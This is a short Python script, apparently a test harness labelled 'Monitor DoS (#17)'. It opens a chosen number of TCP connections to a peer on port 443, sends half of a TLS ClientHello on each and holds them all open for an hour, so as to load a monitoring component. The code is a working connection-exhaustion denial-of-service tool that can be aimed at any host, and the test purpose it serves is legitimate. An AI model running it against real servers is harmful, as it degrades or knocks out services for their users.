"""Monitor DoS (#17): once GO exists, open N TCP connections to PEER:443 and
keep every one, each with the first half of a real ClientHello sent (SNI
h<i>.dos.test), so this process holds N sockets while every new SYN is looked
up. Writes "pid PID" to OUT at start, "opened SECONDS" once all are open.
Runs on the system interpreter as any account.
usage: socket_holder.py PEER N GO OUT"""

import os
import resource
import socket
import ssl
import sys
import time

peer, n, go, out = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 500), hard))
ctx = ssl.create_default_context()


def half_hello(name: str) -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    return hello[: len(hello) // 2]


with open(out, "w") as f:
    f.write(f"pid {os.getpid()}\n")
while not os.path.exists(go):
    time.sleep(0.02)
held = []
t0 = time.monotonic()
for i in range(n):
    s = socket.create_connection((peer, 443))
    s.sendall(half_hello(f"h{i}.dos.test"))
    held.append(s)
with open(out, "a") as f:
    f.write(f"opened {time.monotonic() - t0:.2f}\n")
time.sleep(3600)
